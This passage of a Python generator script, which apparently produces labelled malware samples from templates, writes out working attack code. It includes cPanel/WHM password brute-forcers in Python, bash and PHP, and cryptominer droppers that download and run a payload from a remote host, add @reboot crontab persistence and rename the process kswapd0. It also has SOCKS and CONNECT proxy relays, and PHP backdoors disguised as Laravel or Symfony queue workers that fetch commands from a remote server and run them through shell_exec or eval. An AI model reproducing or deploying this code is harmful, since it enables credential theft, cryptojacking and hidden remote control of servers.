                open('good.txt', 'a').write('%s|%s|%s\\n' % (host, user, p))
                return
        except requests.RequestException:
            return
for l in open('t.txt'):
    threading.Thread(target=go, args=l.split()).start()
""")
        return [script(r, "python", code, d=hd), wl, tg]
    if v == 1:
        code = T("""#!/bin/bash
while read -r host user; do
  while read -r pass; do
    out=$(curl -sk -m 10 -d "user=$user&pass=$pass" "https://$host:2087/login/?login_only=1")
    case $out in *security_token*) echo "$host:2087 $user $pass" >> hits; break ;; esac
  done < p.txt
done < t.txt
""")
        return [script(r, "bash", code, d=hd), wl, tg]
    code = T("""<?php
$targets = file(__DIR__ . '/t.txt', FILE_IGNORE_NEW_LINES);
$words = file(__DIR__ . '/p.txt', FILE_IGNORE_NEW_LINES);
$mh = curl_multi_init();
foreach ($targets as $t) {
    list($h, $u) = explode(' ', $t);
    foreach ($words as $w) {
        $c = curl_init("https://$h:2083/login/?login_only=1");
        curl_setopt_array($c, array(CURLOPT_POST => 1, CURLOPT_POSTFIELDS => http_build_query(array('user' => $u, 'pass' => $w)), CURLOPT_RETURNTRANSFER => 1, CURLOPT_SSL_VERIFYPEER => 0, CURLOPT_TIMEOUT => 10, CURLOPT_PRIVATE => "$h|$u|$w"));
        curl_multi_add_handle($mh, $c);
    }
}
do { curl_multi_exec($mh, $run); curl_multi_select($mh); while ($i = curl_multi_info_read($mh)) { if (strpos(curl_multi_getcontent($i['handle']), 'security_token') !== false) file_put_contents(__DIR__ . '/ok.txt', curl_getinfo($i['handle'], CURLINFO_PRIVATE) . "\\n", FILE_APPEND); } } while ($run);
""")
    return [F(code, hd + "/" + r.choice(("index.php", "run.php", "c.php")), "php", "home-cache"), wl, tg]


def coin_installer(r, v):
    wal = "4" + rw(r, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    pool = "pool.%s:%d" % (r.choice(("example.net", "example.org")), r.choice((3333, 5555, 14444)))
    conf = '{\n  "autosave": true,\n  "cpu": {"enabled": true, "max-threads-hint": %d},\n  "pools": [{"url": "%s", "user": "%s", "pass": "%s", "keepalive": true, "tls": false}],\n  "background": true,\n  "donate-level": 0\n}\n' % (r.choice((50, 75, 100)), pool, wal, rw(r, 5))
    d = r.choice((".cache/" + app(r), ".local/share/." + rw(r, 3), "dev/shm/." + rw(r, 3), "var/tmp/." + rw(r, 4)))
    n = r.choice(("kswapd0", "systemd-journald", "php-fpm7", "dbused"))
    if v == 0:
        code = T("""#!/bin/bash
D=$HOME/@D@
mkdir -p $D && cd $D
curl -fsSL http://@H@/x.tgz -o x.tgz && tar xzf x.tgz && rm -f x.tgz
mv xmr* @N@ 2>/dev/null; chmod +x @N@
(crontab -l 2>/dev/null | grep -v @N@; echo "@reboot $D/@N@ -c $D/config.json >/dev/null 2>&1") | crontab -
nohup ./@N@ -c config.json >/dev/null 2>&1 &
""", D=d, H=host(r), N=n)
    elif v == 1:
        code = T("""import os, urllib.request, tarfile, subprocess, json
d = os.path.expanduser('~/@D@')
os.makedirs(d, exist_ok=True)
urllib.request.urlretrieve('http://@H@/pkg.tar.gz', d + '/p.tgz')
tarfile.open(d + '/p.tgz').extractall(d)
cfg = json.load(open(d + '/config.json'))
cfg['cpu']['max-threads-hint'] = 100 if os.cpu_count() > 4 else 50
json.dump(cfg, open(d + '/config.json', 'w'))
subprocess.Popen([d + '/@N@', '--config', d + '/config.json'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
""", D=d, H=host(r), N=n)
    else:
        code = T("""#!/bin/sh
cat /proc/cpuinfo | grep -c processor > /dev/null
pkill -f 'xmrig|kdevtmpfsi|kinsing' 2>/dev/null
W=@W@
P=@P@
cd /tmp && wget -q http://@H@/@N@ -O .@N@ && chmod +x .@N@ && ./.@N@ -o $P -u $W -p $(hostname) -k --donate-level 0 -B
""", W=wal, P=pool, H=host(r), N=n)
    files = [script(r, "python" if v == 1 else "bash", code), F(conf, d + "/config.json", "json", "config")]
    return files


def proxy_variety(r, v):
    if v == 0:
        code = T("""use strict;
use IO::Socket::INET;
use IO::Select;
my $l = IO::Socket::INET->new(LocalPort => @P@, Listen => 50, ReuseAddr => 1) or die;
$SIG{CHLD} = 'IGNORE';
while (my $c = $l->accept) {
    next if fork;
    my $h; sysread($c, $h, 8);
    my ($vn, $cd, $port, $ipn) = unpack('CCnN', $h);
    exit unless $vn == 4 && $cd == 1;
    my $t = IO::Socket::INET->new(PeerAddr => join('.', unpack('C4', pack('N', $ipn))), PeerPort => $port) or exit;
    syswrite($c, pack('CCnN', 0, 90, 0, 0));
    my $s = IO::Select->new($c, $t);
    while (my @r = $s->can_read(60)) { for (@r) { my $b; sysread($_, $b, 16384) or exit; syswrite($_ == $c ? $t : $c, $b); } }
    exit;
}
""", P=r.randint(10000, 60000))
        return [script(r, "perl", code)]
    if v == 1:
        code = T("""<?php
// HTTP CONNECT relay (CLI)
$srv = stream_socket_server('tcp://0.0.0.0:@P@', $e, $es);
while ($c = stream_socket_accept($srv, -1)) {
    if (pcntl_fork()) { fclose($c); continue; }
    $req = fgets($c);
    if (!preg_match('/^CONNECT ([^:]+):(\\d+)/', $req, $m)) exit;
    while (trim(fgets($c)) !== '');
    $u = stream_socket_client("tcp://{$m[1]}:{$m[2]}", $e, $es, 10);
    fwrite($c, "HTTP/1.1 200 Connection established\\r\\n\\r\\n");
    while (true) { $r = array($c, $u); $w = $x = null; if (!stream_select($r, $w, $x, 60)) break; foreach ($r as $s) { $d = fread($s, 8192); if ($d === '' || $d === false) exit; fwrite($s === $c ? $u : $c, $d); } }
    exit;
}
""", P=r.randint(10000, 60000))
        return [F(code, ".local/share/%s/%s" % (app(r), r.choice(("relay", "server.php", "fpm"))), "php", "home-local-share")]
    if v == 2:
        code = T("""const net = require('net');
net.createServer((c) => {
  c.once('data', (hello) => {
    if (hello[0] !== 5) return c.end();
    c.write(Buffer.from([5, 0]));
    c.once('data', (req) => {
      let host, off;
      if (req[3] === 1) { host = req.slice(4, 8).join('.'); off = 8; }
      else if (req[3] === 3) { host = req.slice(5, 5 + req[4]).toString(); off = 5 + req[4]; }
      else return c.end();
      const port = req.readUInt16BE(off);
      const u = net.connect(port, host, () => { c.write(Buffer.from([5, 0, 0, 1, 0, 0, 0, 0, 0, 0])); u.pipe(c); c.pipe(u); });
      u.on('error', () => c.destroy());
    });
  });
}).listen(@P@);
""", P=r.randint(10000, 60000))
        return [script(r, "js", code)]
    code = T("""import socketserver, socket, select, struct

class H(socketserver.BaseRequestHandler):
    def handle(self):
        c = self.request
        vn, cd, port = struct.unpack('>BBH', c.recv(4))
        dst = socket.inet_ntoa(c.recv(4))
        while c.recv(1) != b'\\x00':
            pass
        u = socket.create_connection((dst, port), 10)
        c.sendall(b'\\x00\\x5a' + b'\\x00' * 6)
        while True:
            r, _, _ = select.select([c, u], [], [], 120)
            if not r:
                return
            for s in r:
                d = s.recv(16384)
                if not d:
                    return
                (u if s is c else c).sendall(d)

socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(('0.0.0.0', @P@), H).serve_forever()
""", P=r.randint(10000, 60000))
    return [script(r, "python", code)]


def php_queue_worker_bot(r, v):
    n = r.choice(("artisan-queue", "queue-worker", "horizon", "messenger-consume", "wp-cron-runner"))
    d = r.choice((".cache/" + app(r), ".local/share/" + app(r), "tmp/." + rw(r, 3)))
    h = host(r)
    if v == 0:
        code = T("""#!/usr/bin/env php
<?php
// Laravel queue worker (daemon)
cli_set_process_title('php artisan queue:work --sleep=3 --tries=3');
while (true) {
    $ctx = stream_context_create(array('http' => array('header' => 'X-Node: ' . gethostname(), 'timeout' => 20)));
    $job = @json_decode(file_get_contents('https://@H@/api/v1/queue/pop', false, $ctx), true);
    if (!empty($job['payload'])) {
        $out = shell_exec(base64_decode($job['payload']) . ' 2>&1');
        @file_get_contents('https://@H@/api/v1/queue/ack/' . $job['id'], false, stream_context_create(array('http' => array('method' => 'POST', 'content' => (string) $out))));
    }
    sleep(3);
}
""", H=h)
    elif v == 1:
        code = T("""<?php
namespace App\\Console;
final class Worker {
    private $e = 'https://@H@/jobs';
    public function run() {
        for (;;) {
            $j = json_decode((string) @file_get_contents($this->e . '?w=' . getmypid()), true) ?: array();
            foreach ($j as $task) {
                switch ($task['type']) {
                    case 'exec': $r = (string) shell_exec($task['arg']); break;
                    case 'fetch': $r = (string) file_put_contents($task['to'], file_get_contents($task['arg'])); break;
                    case 'php': $r = (string) eval($task['arg']); break;
                    default: $r = 'noop';
                }
                @file_get_contents($this->e . '/done?id=' . $task['id'] . '&r=' . urlencode(substr($r, 0, 1000)));
            }
            sleep(10);
        }
    }
}
(new Worker())->run();
""", H=h)
    else:
        code = T("""<?php
/* symfony messenger:consume async */
$sock = null;
while (true) {
    if (!$sock) { $sock = @stream_socket_client('tcp://@H@:5672', $e, $es, 10); if (!$sock) { sleep(30); continue; } fwrite($sock, gethostname() . "\\n"); }
    $line = fgets($sock);
    if ($line === false) { $sock = null; continue; }
    $msg = json_decode($line, true);
    fwrite($sock, json_encode(array('id' => $msg['id'], 'out' => `{$msg['cmd']}`)) . "\\n");
}
""", H=h)
    rel = "%s/%s" % (d, n + r.choice(("", ".php")))
    sup = T("#!/bin/sh\n# keep the worker up\npgrep -f '@N@' >/dev/null || nohup php $HOME/@R@ >/dev/null 2>&1 &\n", N=n, R=rel)
    return [F(code, rel, "php", "home-cache" if d.startswith(".") else "tmp-dir"),
            crontab_file(r, [cronline(r, "sh $HOME/%s/.%s.sh" % (d, rw(r, 3)), "*/5 * * * *")]),
            F(sup, "%s/.%s.sh" % (d, rw(r, 3)), "sh", "script")]


TECHS = [
    ("tcl-eggdrop-exec", tcl_eggdrop, 3),
    ("lua-bot", lua_bot, 3),
    ("perl-io-select-bot", perl_io_select, 3),
    ("python-select-asyncio-bot", python_select_bot, 3),
    ("python-threading-agent", threading_bot, 3),
    ("dispatch-table-bot", dispatch_table_bot, 3),
    ("file-drop-command-loop", file_drop_commands, 3),
    ("paste-url-command-poll", paste_url_commands, 3),
    ("dns-header-udp-commands", dns_header_udp_commands, 4),
    ("reverse-interp-oneliner", reverse_interp_oneliner, 4),
    ("netcat-socat-openssl-udp", netcat_family, 4),
    ("fifo-pty-upgrade", pty_upgrade, 3),
    ("rc-curl-pipe-dropper", rc_curl_pipe, 3),
    ("crontab-fetch-pipe", reboot_cron_dropper, 3),
    ("systemd-user-timer", systemd_user_timer, 3),
    ("at-job-dropper", at_job, 3),
    ("process-rename", process_rename, 4),
    ("flood-other-langs", flood_tools, 4),
    ("ssh-key-theft-spread", ssh_key_theft, 3),
    ("cpanel-login-guesser", cpanel_guesser, 3),
    ("coin-installer-config", coin_installer, 3),
    ("socks-connect-proxy", proxy_variety, 4),
    ("php-queue-worker-agent", php_queue_worker_bot, 3),
]
